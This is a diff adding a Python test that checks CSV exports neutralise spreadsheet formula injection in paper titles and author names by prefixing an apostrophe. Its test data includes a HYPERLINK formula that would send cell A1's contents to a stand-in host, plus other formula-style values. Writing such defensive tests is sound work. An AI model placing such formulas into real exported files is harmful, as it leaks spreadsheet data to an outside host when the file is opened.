@@ -152,6 +152,24 @@ def test_export_formats(fitted, tmp_path):
         papers.export(table, "xlsx")
 
 
+def test_csv_cells_that_a_spreadsheet_would_run_get_an_apostrophe(fitted):
+    """Titles are untrusted: `=HYPERLINK(...)` in a CSV runs when the file is opened."""
+    import io
+    import json
+
+    model, frame = fitted
+    table = papers.paper_table(model, frame).head(6).copy()
+    evil = ['=HYPERLINK("http://x/?"&A1,"pdf")', "+SUM(1,2)", "-2+3", "@SUM(A1)", "\tcmd"]
+    evil.append("ok = fine")
+    table["title"] = evil
+    table["authors"] = [["=1+1", "Ada"]] + [["Ada"]] * 5
+    back = pd.read_csv(io.StringIO(papers.export(table, "csv").decode()))
+    assert back.title.tolist() == ["'" + t for t in evil[:5]] + ["ok = fine"]
+    assert back.authors[0] == "'=1+1; Ada"
+    assert back.theme_id.tolist() == table.theme_id.tolist()  # numbers stay numbers
+    assert [r["title"] for r in json.loads(papers.export(table, "json"))] == evil  # exact
+
+
 def test_cli_papers(tmp_path, synthetic):
     from typer.testing import CliRunner
 
